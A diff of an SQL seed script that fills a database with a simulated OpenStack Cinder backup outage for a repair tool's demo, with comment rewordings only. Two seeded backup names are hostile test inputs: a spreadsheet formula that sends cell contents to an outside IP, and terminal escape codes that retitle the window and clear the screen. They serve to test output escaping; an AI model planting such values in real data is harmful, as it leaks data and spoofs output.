@@ -1,11 +1,10 @@
--- rows: an outage, for `cinder-backup-repair demo`.
+-- rows: inserts the rows of an outage, for `cinder-backup-repair demo`.
 --
--- Controller ctl1 lost its power three hours ago, in the middle of the night's backups; its cinder-backup is down.
--- ctl2 works. ctl0 was retired long ago. All backups lie on a shared file system (driver posix), of which the demo has
--- only what the story needs: that of the volumes of 1 GiB.
--- Times are relative to now; everything else, ids too, is the same in every run.
+-- Controller ctl1 lost power three hours ago, during the nightly backups; its cinder-backup is down. ctl2 works. ctl0 was retired long
+-- ago. All backups are on a shared file system (driver posix). The demo has only the files of volumes of 1 GiB.
+-- Times are relative to now; everything else, ids included, is the same in every run.
 
--- Ids that look random: an odd factor runs through all numbers of its width without repeating one.
+-- Ids that look random: multiples of an odd factor do not repeat within the width of the number.
 CREATE TEMP TABLE made (n INTEGER PRIMARY KEY, id VARCHAR(36) NOT NULL);
 INSERT INTO made (n, id)
 WITH RECURSIVE number (n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM number WHERE n < 2000)
@@ -37,9 +36,9 @@ SELECT strftime('%Y-%m-%d %H:%M:%f000', 'now', '-900 days'),
                        (6, 'ctl2',       'cinder-backup',    '-5 seconds', 0))) AS service
   JOIN made ON made.n = 1900 + service.id;
 
--- --- the daily round: nothing of this is in trouble ----------------------------------------------------------------
+-- --- daily operation, with nothing stuck ----------------------------------------------------------------
 
--- 30 volumes; two of three are attached to a server.
+-- 30 volumes; two out of three are attached to a server.
 CREATE TEMP TABLE daily_volumes AS
 SELECT made.n, made.id, projects.project_id, projects.user_id, name.name || CASE projects.n WHEN 0 THEN '' WHEN 1 THEN '-stage' ELSE '-lab' END AS name,
        (made.n * 7 % 10 + 1) * 10 AS size, made.n % 3 <> 1 AS attached
@@ -72,7 +71,7 @@ SELECT created_at, created_at, 0, attachment.id, volume.id, 'compute' || (1 + vo
   JOIN made AS server ON server.n = 200 + volume.n
  WHERE volume.attached;
 
--- 1200 deleted backups, forty nights of thirty volumes, and 60 available ones of the last two nights.
+-- 1200 deleted backups (40 nights, 30 volumes), and 60 available backups of the last two nights.
 INSERT INTO backups
     (created_at, updated_at, deleted_at, deleted, id, volume_id, user_id, project_id, host, availability_zone, display_name,
      container, status, service_metadata, service, size, object_count, num_dependent_backups, data_timestamp)
@@ -99,37 +98,37 @@ SELECT created_at,
        'cinder.backup.drivers.posix.PosixBackupDriver', size, (size * 1024 + 1906) / 1907, 0, created_at
   FROM daily;
 
--- --- what the outage left, and older trouble --------------------------------------------------------------------------
+-- --- what the outage left, and older problems --------------------------------------------------------------------------
 
--- Volumes, with who has them. Numbers of projects are those above.
+-- Volumes with their attachments. The projects are numbered as above.
 CREATE TEMP TABLE story_volumes AS
 SELECT column1 AS id, column2 AS project, column3 AS name, column4 AS size, column5 AS status, column6 AS previous_status,
        column7 AS attached, column8 AS changed
   FROM (VALUES
-    -- being backed up by ctl1, from under running servers
+    -- being backed up by ctl1, attached to running servers
     ('6d1f0c92-84be-4c35-9a77-2f50e8b1d643', 0, 'erp-db',         1, 'backing-up',       'in-use',     1, '-220 minutes'),
     ('73c5a0e8-1f49-4b26-8d97-e4b62c0f5a81', 0, 'ledger-db',      1, 'backing-up',       'in-use',     1, '-213 minutes'),
     -- its snapshot is being backed up; the volume itself is free
     ('0b7e3a58-c1d4-4f92-8e06-95a3d7c24b1f', 1, 'wiki-data',      1, 'available',        NULL,         0, '-20 days'),
-    -- being backed up by ctl2, when the database went
+    -- being backed up by ctl2 when the database failed
     ('d49e7b16-5c03-4af8-b2e1-6f97a8d0c345', 1, 'dns-zones',      1, 'backing-up',       'available',  0, '-216 minutes'),
-    -- a backup is being restored over it
+    -- being overwritten by a restore
     ('e52a9d07-3f6b-48c1-b7d4-10c8f6a29e35', 0, 'mail-spool',   120, 'restoring-backup', NULL,         0, '-195 minutes'),
-    -- a new volume that a backup is being restored to; the API names it so
+    -- a new volume to which a backup is being restored, with the name that the API gives it
     ('47c8b1e3-90d2-4a6f-85e9-d3b07f1c6a28', 2, 'restore_backup_c93d5e70-1a2b-4f84-96d7-e80b4c5f2a19', 60, 'creating', NULL, 0, '-190 minutes'),
-    -- the API took the order for its backup when no scheduler was there to hear it
+    -- the API accepted its backup while no scheduler was running
     ('91a4f6d8-2e5c-4b73-ac10-7f8e3d9b5042', 2, 'scratch',       10, 'backing-up',       'available',  0, '-170 minutes'),
-    -- the order for its backup was lost on the message bus
+    -- the request for its backup was lost on the message bus
     ('2f83c7b5-d694-4e0a-91cf-a65b0e47d318', 1, 'files-stage2', 500, 'backing-up',       'available',  0, '-305 minutes'),
-    -- ctl2 is at work on it
+    -- being backed up by ctl2
     ('b860d2e4-7c19-4583-bf2a-3d94e1f05c67', 0, 'ldap-data',     20, 'backing-up',       'in-use',     1, '-12 minutes'),
-    -- a restart of cinder-backup "restored" the previous_status that an earlier crash had left
+    -- a restart of cinder-backup set it to the previous_status that an earlier crash had left
     ('d7125b9e-4a08-4f6d-8c33-b9e60f7a1d52', 2, 'build-cache',   80, 'backing-up',       'backing-up', 0, '-4 days'),
     -- chains
     ('5ce09a41-b8f7-4d26-a3e5-c7d1082f94b6', 0, 'crm-db',       150, 'in-use',           'backing-up', 1, '-1 day'),
     ('a3f4e8d6-150b-47c9-9d82-6be7c0543f1a', 0, 'shop-db',      100, 'in-use',           'backing-up', 1, '-1 day'),
     ('f8d20b37-6ea5-4c91-87fb-04a9c3e5d16f', 1, 'portal-db',     90, 'in-use',           'backing-up', 1, '-1 day'),
-    -- a backup of it failed, and the clone that was made for the backup is still there
+    -- a backup of it failed, and the clone for the backup remains
     ('1e9bc5f2-a730-4d84-b65e-8c2d7f0e3a94', 0, 'hr-db',         70, 'in-use',           'backing-up', 1, '-2 days'),
     ('c06f4d8a-e3b1-4729-95a8-fd71b2e0c653', 0, 'backup-vol-1e9bc5f2-a730-4d84-b65e-8c2d7f0e3a94', 70, 'available', NULL, 0, '-2 days'));
 
@@ -165,12 +164,12 @@ SELECT strftime('%Y-%m-%d %H:%M:%f000', 'now', '-230 minutes'), strftime('%Y-%m-
   FROM projects
  WHERE n = 1;
 
--- Backups. `begun` says whether a driver took it up: it then has a driver, a directory and a prefix.
+-- Backups. `begun`: a driver started on it, so it has a driver, a directory and a prefix.
 CREATE TEMP TABLE story_backups AS
 SELECT column1 AS id, column2 AS volume_id, column3 AS project, column4 AS host, column5 AS name, column6 AS status, column7 AS size,
        column8 AS begun, column9 AS created, column10 AS changed
   FROM (VALUES
-    -- ctl1 was in the middle of these when its power went (the volume of one of them is gone: that is why it is restored)
+    -- in progress on ctl1 when it lost power (one is a restore, because its volume is gone)
     ('3f6c1b52-9e07-4d8a-b1c4-85d2f7e06a93', '6d1f0c92-84be-4c35-9a77-2f50e8b1d643', 0, 'ctl1', 'erp-db nightly',
      'creating', 1, 1, '-220 minutes', '-219 minutes'),
     ('5a90c7e3-d216-4f8b-9e45-b07d1f3c6a28', '73c5a0e8-1f49-4b26-8d97-e4b62c0f5a81', 0, 'ctl1', 'ledger-db nightly',
@@ -184,29 +183,29 @@ SELECT column1 AS id, column2 AS volume_id, column3 AS project, column4 AS host,
     -- a name that a spreadsheet would run
     ('05a8c2f6-d7e1-49b3-8c60-f49d1b7e2a35', '5ce09a41-b8f7-4d26-a3e5-c7d1082f94b6', 0, 'ctl1', '=HYPERLINK("http://203.0.113.9/?"&A1)',
      'deleting', 150, 1, '-30 days', '-185 minutes'),
-    -- nobody knows any more what happened to this one
+    -- stuck for an unknown reason
     ('e16b9f30-48d5-4c7a-b2e9-07c4a5d8f162', 'f8d20b37-6ea5-4c91-87fb-04a9c3e5d16f', 1, 'ctl1', 'portal-db weekly',
      NULL, 90, 1, '-9 days', '-8 days'),
     -- never scheduled
     ('9c42e7d5-b1f8-4063-a59d-6e8f0c3b7a21', '91a4f6d8-2e5c-4b73-ac10-7f8e3d9b5042', 2, NULL, 'scratch before the test',
      'creating', 10, 0, '-170 minutes', NULL),
-    -- an import that no host took up
+    -- an import that no host started
     ('7f05d3b9-e2c8-4a16-9f74-b3a6d1e0c588', '00000000-0000-0000-0000-000000000000', 1, NULL, NULL,
      'creating', NULL, 0, '-2 days', NULL),
-    -- of a retired host and of a volume that is gone, under a name that would clear the screen of a careless program
+    -- of a retired host and a missing volume, with a name that clears the screen if it is printed unescaped
     ('a2d8f614-c09e-4b57-8d31-f5e7b9a4c063', '94f1b0c7-d36e-42a8-b95f-0e7c8d2a6b14', 2, 'ctl0', char(27) || ']0;owned' || char(7) || char(27) || '[2Jmigration',
      'creating', 30, 1, '-40 days', '-40 days'),
-    -- ctl2 beats: one that it had done but could not record, one whose order was lost, one that it is at work on
+    -- ctl2 is up: one finished but not recorded, one whose request was lost, one in progress
     ('c7e2f805-3b9d-4164-a0d8-5f1b92e6d47a', 'd49e7b16-5c03-4af8-b2e1-6f97a8d0c345', 1, 'ctl2', 'dns-zones nightly',
      'creating', 1, 1, '-216 minutes', '-216 minutes'),
     ('d8b1c5e9-3720-4f6a-8e94-1c0d7a5f2b36', '2f83c7b5-d694-4e0a-91cf-a65b0e47d318', 1, 'ctl2', 'files-stage2 nightly',
      'creating', 500, 0, '-305 minutes', '-305 minutes'),
     ('4e90a7d2-f6b3-48c5-b07e-d92f1c8e6a54', 'b860d2e4-7c19-4583-bf2a-3d94e1f05c67', 0, 'ctl2', 'ldap-data nightly',
      'creating', 20, 1, '-12 minutes', '-12 minutes'),
-    -- what erp-db's nightly is an increment on
+    -- the parent of "erp-db nightly"
     ('e83b61d4-7f0a-4c59-8b12-d6c4a9705e3f', '6d1f0c92-84be-4c35-9a77-2f50e8b1d643', 0, 'ctl1', 'erp-db weekly',
      'available', 1, 1, '-3 days', '-3 days'),
-    -- a sound chain: one full backup and three increments
+    -- an intact chain: one full backup and three increments
     ('1c7d9e05-a4b8-4f23-95d6-e0c8b2f7a341', 'a3f4e8d6-150b-47c9-9d82-6be7c0543f1a', 0, 'ctl1', 'shop-db full',
      'available', 100, 1, '-8 days', '-8 days'),
     ('2d8e0f16-b5c9-4a34-86e7-f1d9c3a8b452', 'a3f4e8d6-150b-47c9-9d82-6be7c0543f1a', 0, 'ctl1', 'shop-db increment 1',
@@ -215,17 +214,17 @@ SELECT column1 AS id, column2 AS volume_id, column3 AS project, column4 AS host,
      'available', 100, 1, '-6 days', '-6 days'),
     ('4fa02b38-d7e1-4c56-a809-b3f1e5cad674', 'a3f4e8d6-150b-47c9-9d82-6be7c0543f1a', 0, 'ctl1', 'shop-db increment 3',
      'available', 100, 1, '-5 days', '-5 days'),
-    -- a full backup that Cinder would let be deleted under its two increments
+    -- a full backup that Cinder would delete although it has two increments
     ('60b13c49-e8f2-4d67-b91a-c4a2f6dbe785', '5ce09a41-b8f7-4d26-a3e5-c7d1082f94b6', 0, 'ctl2', 'crm-db full',
      'available', 150, 1, '-4 days', '-4 days'),
     ('71c24d5a-f903-4e78-8a2b-d5b3a7ecf896', '5ce09a41-b8f7-4d26-a3e5-c7d1082f94b6', 0, 'ctl2', 'crm-db increment 1',
      'available', 150, 1, '-3 days', '-3 days'),
     ('82d35e6b-0a14-4f89-9b3c-e6c4b8fd0a97', '5ce09a41-b8f7-4d26-a3e5-c7d1082f94b6', 0, 'ctl2', 'crm-db increment 2',
      'available', 150, 1, '-2 days', '-2 days'),
-    -- an increment on a backup that was deleted, and its row purged
+    -- an increment whose parent was deleted and purged
     ('93e46f7c-1b25-4a9a-ac4d-f7d5c90e1ba8', 'f8d20b37-6ea5-4c91-87fb-04a9c3e5d16f', 1, 'ctl2', 'portal-db increment 4',
      'available', 90, 1, '-1 day', '-1 day'),
-    -- failed, with its temporary volume still on record
+    -- failed, with its temporary volume still recorded
     ('a4f5708d-2c36-4bab-bd5e-08e6da1f2cb9', '1e9bc5f2-a730-4d84-b65e-8c2d7f0e3a94', 0, 'ctl1', 'hr-db nightly',
      'error', 70, 1, '-2 days', '-2 days'));
 
@@ -245,7 +244,7 @@ SELECT strftime('%Y-%m-%d %H:%M:%f000', 'now', story.created), strftime('%Y-%m-%
   FROM story_backups AS story
   JOIN projects ON projects.n = story.project;
 
--- What only some of them have.
+-- Values that only some of them have.
 UPDATE backups SET object_count = 64 WHERE display_name = 'erp-db weekly';
 UPDATE backups SET parent_id = 'e83b61d4-7f0a-4c59-8b12-d6c4a9705e3f' WHERE display_name = 'erp-db nightly';
 UPDATE backups SET snapshot_id = '7ab5e190-f3c6-4d28-8b4f-e1d09c6a5273' WHERE display_name = 'wiki before the upgrade';
@@ -262,7 +261,7 @@ UPDATE backups
        fail_reason = 'No space left on device'
  WHERE display_name = 'hr-db nightly';
 
--- Quotas count every live backup, whatever its status; the laboratory's count is one too high.
+-- Quotas count live backups in every status; the laboratory's count is one too high.
 INSERT INTO quota_usages (created_at, updated_at, deleted, project_id, resource, in_use, reserved, race_preventer)
 SELECT strftime('%Y-%m-%d %H:%M:%f000', 'now', '-900 days'), strftime('%Y-%m-%d %H:%M:%f000', 'now', '-170 minutes'), 0,
        projects.project_id, usage.resource,
